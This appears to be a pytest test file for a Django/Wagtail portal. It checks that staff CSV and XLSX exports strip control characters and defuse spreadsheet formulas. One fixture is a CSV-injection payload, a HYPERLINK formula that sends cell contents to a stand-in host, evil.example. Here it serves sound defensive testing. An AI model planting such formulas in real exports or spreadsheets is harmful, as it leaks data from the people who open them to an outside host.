"""Staff exports (CSV and XLSX) survive control characters and never carry a live formula."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from wagtail.admin.viewsets import viewsets

from portal.core.exports import SafeExportMixin
from storytelling.models import StoryInterest
from tests.storytelling.factories import add_candidate, add_story_index
from tests.vacatures.factories import VacancyFactory

CONTROL = "Jan\x07\x1b Jansen"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"klik")'


@pytest.fixture
def staff_client(client, home_page):
    admin = get_user_model().objects.create_superuser(
        email="beheer@gemeente.example.nl", password="Sterk-wachtwoord-2026"
    )
    client.force_login(admin)
    return client


def interest_list_url():
    return reverse(StoryInterest.snippet_viewset.get_url_name("list"))


@pytest.fixture
def interests(home_page):
    story = add_candidate(add_story_index(home_page), title="Sanne")
    for name in (CONTROL, FORMULA):
        StoryInterest.objects.create(
            story=story, name=name, organisation="+31 Bakkerij", email="a@example.nl"
        )


def exported_csv(client, url):
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def exported_xlsx(client, url):
    response = client.get(url, {"export": "xlsx"})
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in workbook.active.iter_rows(min_row=2)]


def test_csv_export_strips_control_characters_and_defuses_formulas(staff_client, interests):
    rows = exported_csv(staff_client, interest_list_url())
    cells = [cell for row in rows[1:] for cell in row]
    assert "Jan Jansen" in cells
    assert "'" + FORMULA in cells
    assert "'+31 Bakkerij" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert not any(c in cell for cell in cells for c in "\x07\x1b")


def test_xlsx_export_strips_control_characters_and_stores_formulas_as_text(staff_client, interests):
    cells = [cell for row in exported_xlsx(staff_client, interest_list_url()) for cell in row]
    values = [cell.value for cell in cells]
    assert "Jan Jansen" in values
    formula = next(cell for cell in cells if cell.value == FORMULA)
    assert formula.data_type == "s"


def test_vacancy_export_is_sanitised_too(staff_client):
    VacancyFactory(title=FORMULA, city="\x1bElst")
    url = reverse("vacatures:index")
    rows = exported_csv(staff_client, url)
    assert "'" + FORMULA in rows[1] and "Elst" in rows[1]
    values = [cell.value for row in exported_xlsx(staff_client, url) for cell in row]
    assert FORMULA in values and "Elst" in values


def test_every_admin_export_goes_through_the_shared_sanitiser():
    exporting = [
        viewset
        for viewset in viewsets.viewsets
        if isinstance(getattr(viewset, "list_export", None), list | tuple) and viewset.list_export
    ]
    assert len(exporting) >= 4
    for viewset in exporting:
        assert issubclass(viewset.index_view_class, SafeExportMixin), viewset
